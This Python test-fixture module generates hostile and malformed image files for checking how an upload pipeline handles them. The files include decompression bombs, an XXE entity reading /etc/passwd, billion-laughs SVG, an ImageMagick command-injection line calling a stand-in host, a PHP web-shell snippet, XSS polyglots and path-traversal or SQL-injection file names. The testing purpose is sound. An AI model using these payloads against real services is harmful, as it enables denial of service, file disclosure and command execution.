"""Image files that mean harm, or are harmed: each with what may become of it."""

import io
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

TOO_LARGE, DAMAGED, FOREIGN = "image_too_large", "decode_failed", "not_an_image"
FINE = None
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
# What opens in a viewer, and what is cut off by a byte, may be shown as far as it goes.
ANY = frozenset({FINE, DAMAGED, FOREIGN, TOO_LARGE})


@dataclass(frozen=True)
class Case:
    """A file, and the codes of problems that its item may end with; None is success."""

    name: str
    data: bytes
    ends: frozenset[str | None]


def image_cases() -> Iterator[Case]:
    """Yield every case."""
    for cases in (_bombs, _large_ones, _lies, _headers, _cuts, _polyglots, _foreign, _names):
        for name, data, ends in cases():
            yield Case(name, data, frozenset(ends))


Raw = Iterator[tuple[str, bytes, set[str | None] | frozenset[str | None]]]


def picture(kind: str, size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    """Return a flat picture as a file."""
    target = io.BytesIO()
    Image.new("RGB", size, (200, 220, 240)).save(target, kind, **options)
    return target.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, pixels: bytes, *more: bytes) -> bytes:
    """Return a PNG of 8-bit RGB whose header and pixels need not agree."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(pixels))
    return PNG_SIGNATURE + header + b"".join(more) + body + chunk(b"IEND", b"")


def tiff(entries: list[tuple[int, int, int, int]], after: int = 0, tail: bytes = b"") -> bytes:
    """Return a little-endian TIFF of one directory: tag, type, count and value of each entry."""
    rows = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    head = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries))
    return head + rows + struct.pack("<I", after) + tail


def tiff_of(width: int, height: int, **fields: int) -> bytes:
    """Return a TIFF of gray pixels, of which there are few."""
    tags = {"strip_at": 273, "rows": 278, "strip_bytes": 279, "tile_width": 322}
    tags |= {"tile_height": 323, "tile_at": 324, "tile_bytes": 325, "compression": 259}
    known = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (262, 3, 1, 1),
        (277, 3, 1, 1),
    ]
    more = [(tags[name], 4, 1, value) for name, value in fields.items()]
    return tiff(known + more, tail=bytes(64))


CUT_CHUNK = png(60, 40, b"")[:33] + struct.pack(">I", 2**31 - 1) + b"tEXt"
LONG_END = CUT_CHUNK[:-4] + b"IEND"


def _bombs() -> Raw:
    yield "bomb.png", png(30_000, 30_000, bytes(90_001)), {TOO_LARGE}
    yield "wide.png", png(4_000_000_000, 1, bytes(64)), {TOO_LARGE, FOREIGN}
    jpeg = picture("JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    yield "bomb.jpg", jpeg[:at] + struct.pack(">HH", 65_000, 65_000) + jpeg[at + 4 :], {TOO_LARGE}
    extended = b"VP8X" + struct.pack("<I", 10) + bytes(4) + b"\xff\x3f\x00\xff\x3f\x00"
    lossless = picture("WEBP", lossless=True)[12:]
    body = b"WEBP" + extended + lossless
    yield "bomb.webp", b"RIFF" + struct.pack("<I", len(body)) + body, {TOO_LARGE}
    gif = picture("GIF")
    yield "bomb.gif", gif[:6] + struct.pack("<HH", 65_535, 65_535) + gif[10:], {TOO_LARGE, FOREIGN}
    bmp = picture("BMP")
    yield "bomb.bmp", bmp[:18] + struct.pack("<ii", 900_000, 900_000) + bmp[26:], {TOO_LARGE}
    yield (
        "bomb.tiff",
        tiff_of(90_000, 90_000, strip_at=8, strip_bytes=64, rows=90_000),
        {TOO_LARGE},
    )
    avif = picture("AVIF")
    at = avif.index(b"ispe") + 8
    yield "bomb.avif", avif[:at] + struct.pack(">II", 40_000, 40_000) + avif[at + 8 :], {TOO_LARGE}


def _large_ones() -> Raw:
    """Yield what is just within the limits and unpacks to a thousand times its size."""
    side = (6_900, 6_900)
    yield "flat.png", picture("PNG", side), {FINE}
    yield "flat.tiff", picture("TIFF", side, compression="tiff_deflate"), {FINE}
    veil = io.BytesIO()
    Image.new("RGBA", side, (200, 220, 240, 128)).save(veil, "PNG")
    yield "translucent.png", veil.getvalue(), {FINE}
    # Red, green, blue and alpha of two bytes each.
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", *side, 16, 6, 0, 0, 0))
    pixels = zlib.compress(bytes(side[1] * (1 + 8 * side[0])))
    deep = PNG_SIGNATURE + header + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    yield "deep.png", deep, {FINE}


def _lies() -> Raw:
    yield "more-than-said.png", png(10, 10, bytes(30_000_000)), {FINE, DAMAGED}
    yield "less-than-said.png", png(5_000, 5_000, bytes(100)), {FINE, DAMAGED}
    yield "no-pixels.png", PNG_SIGNATURE + png(9, 9, b"")[8:33] + chunk(b"IEND", b""), {DAMAGED}
    yield "zero.png", png(0, 0, b""), {FOREIGN}
    yield "wrong-sum.png", png(60, 40, bytes(7_240))[:-5] + b"\0" + b"abcd", {FINE, DAMAGED}
    jpeg = picture("JPEG", (600, 400))
    at = jpeg.index(b"\xff\xc0") + 5
    yield "smaller.jpg", jpeg[:at] + struct.pack(">HH", 8, 8) + jpeg[at + 4 :], {FINE, DAMAGED}
    yield "larger.jpg", jpeg[:at] + struct.pack(">HH", 5_000, 5_000) + jpeg[at + 4 :], ANY
    bmp = picture("BMP")
    yield "upside-down.bmp", bmp[:22] + struct.pack("<i", -40) + bmp[26:], ANY
    yield "negative.bmp", bmp[:18] + struct.pack("<i", -60) + bmp[22:], {FOREIGN, DAMAGED}
    yield "larger.bmp", bmp[:18] + struct.pack("<ii", 6_000, 6_000) + bmp[26:], ANY
    yield "bits.bmp", bmp[:28] + struct.pack("<H", 999) + bmp[30:], ANY
    tiles = {"tile_at": 8, "tile_bytes": 64}
    tiled = tiff_of(64, 64, tile_width=1 << 24, tile_height=1 << 6, **tiles)
    yield "tiles.tiff", tiled, {DAMAGED}
    yield "strips.tiff", tiff_of(64, 64, strip_at=8, strip_bytes=2**32 - 1, rows=64), ANY
    yield "nowhere.tiff", tiff_of(64, 64, strip_at=2**31, strip_bytes=64, rows=64), {FINE, DAMAGED}
    webp = picture("WEBP")
    yield "size.webp", webp[:4] + struct.pack("<I", 2**32 - 2) + webp[8:], ANY
    gif = picture("GIF")
    at = gif.index(b",") + 5
    yield "frame.gif", gif[:at] + struct.pack("<HH", 60_000, 60_000) + gif[at + 4 :], ANY


def _headers() -> Raw:
    note = chunk(b"tEXt", b"Comment\0" + b"x" * 40)
    yield "notes.png", png(60, 40, bytes(7_240), note * 100_000), {FINE, DAMAGED}
    swollen = b"Comment\0\0" + zlib.compress(bytes(200_000_000))
    yield "swollen.png", png(60, 40, bytes(7_240), chunk(b"zTXt", swollen)), {FINE, DAMAGED}
    profile = b"icc\0\0" + zlib.compress(bytes(200_000_000))
    yield "profile.png", png(60, 40, bytes(7_240), chunk(b"iCCP", profile)), {FINE, DAMAGED}
    yield (
        "no-end.png",
        png(60, 40, bytes(7_240), struct.pack(">I", 2**31 - 1) + b"tEXt"),
        {DAMAGED},
    )
    # Found by fuzzing: the file ends before there is room for the chunk's checksum.
    yield "cut-chunk.png", CUT_CHUNK, {DAMAGED}
    yield "long-end.png", LONG_END + bytes(40), {DAMAGED}
    jpeg = picture("JPEG")
    segment = b"\xff\xe1\xff\xff" + bytes(65_533)
    yield "segments.jpg", jpeg[:2] + segment * 300 + jpeg[2:], {FINE, DAMAGED}
    loop = tiff([(256, 4, 1, 64), (257, 4, 1, 64), (330, 4, 1, 8)], after=8)
    yield "loop.tiff", loop, {DAMAGED, FOREIGN}
    yield "entries.tiff", b"II*\0" + struct.pack("<IH", 8, 65_535) + bytes(64), ANY
    frames = [Image.new("P", (60, 40), index) for index in range(200)]
    target = io.BytesIO()
    frames[0].save(target, "GIF", save_all=True, append_images=frames[1:])
    yield "frames.gif", target.getvalue(), {FINE}
    exif = Image.Exif()
    exif[0x0112] = 4_242
    yield "turn.jpg", picture("JPEG", exif=exif.tobytes()), {FINE}
    yield "turn-nowhere.jpg", picture("JPEG", exif=b"Exif\0\0II*\0\xff\xff\xff\xff"), {FINE}


def _cuts() -> Raw:
    for kind in ("PNG", "JPEG", "WEBP", "GIF", "BMP", "TIFF", "AVIF"):
        whole = picture(kind, (300, 200))
        yield f"half.{kind.lower()}", whole[: len(whole) // 2], ANY
        yield f"head.{kind.lower()}", whole[:16], {DAMAGED, FOREIGN}


def _polyglots() -> Raw:
    plain = picture("PNG")
    yield "and-zip.png", plain + b"PK\x03\x04" + bytes(100), {FINE}
    yield "and-script.png", plain + b"<script>alert(1)</script><?php system($_GET[0]); ?>", {FINE}
    note = PngImagePlugin.PngInfo()
    note.add_text("Comment", "<svg onload=alert(1)>")
    yield "noted.png", picture("PNG", pnginfo=note), {FINE}
    yield "script.gif", b"GIF89a=1;alert(1)//" + bytes(64), {DAMAGED, FOREIGN, TOO_LARGE}
    yield "and-pdf.jpg", picture("JPEG") + b"%PDF-1.7", {FINE}


def _foreign() -> Raw:
    entity = b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield "entity.svg", b"<?xml version='1.0'?>" + entity + b"<svg>&x;</svg>", {FOREIGN}
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    yield "laughs.svg", b"<!DOCTYPE s [" + laughs + b"]><svg>&l9;</svg>", {FOREIGN}
    yield "page.png", b"<html><script>alert(1)</script></html>", {FOREIGN}
    yield "program.png", b"\x7fELF" + bytes(1_000), {FOREIGN}
    yield "document.png", b"%PDF-1.7\n" + bytes(100), {FOREIGN}
    yield "script.png", b"%!PS-Adobe-3.0\n{loop}\n", {FOREIGN}
    yield "magick.png", b"push graphic-context\nfill 'url(https://x/$(id))'\n", {FOREIGN}
    yield "one.png", b"\x89", {FOREIGN}
    yield "zeros.png", bytes(10_000), {FOREIGN}
    yield "signature.png", PNG_SIGNATURE, {FOREIGN, DAMAGED}


def _names() -> Raw:
    plain = picture("PNG")
    for name in (
        *(
            "../../../etc/passwd.png",
            "/etc/shadow.png",
            "C:\\Windows\\x.png",
            "a" * 5_000 + ".png",
        ),
        *("\u202egnp.exe", "💣🎨.png", "'; DROP TABLE items; --.png", "<script>.png"),
        *("%2e%2e%2fx.png", "CON.png", "a\tb.png", "-rf.png", "${HOME}.png", "{{ 7 * 7 }}.png"),
    ):
        yield name, plain, {FINE}
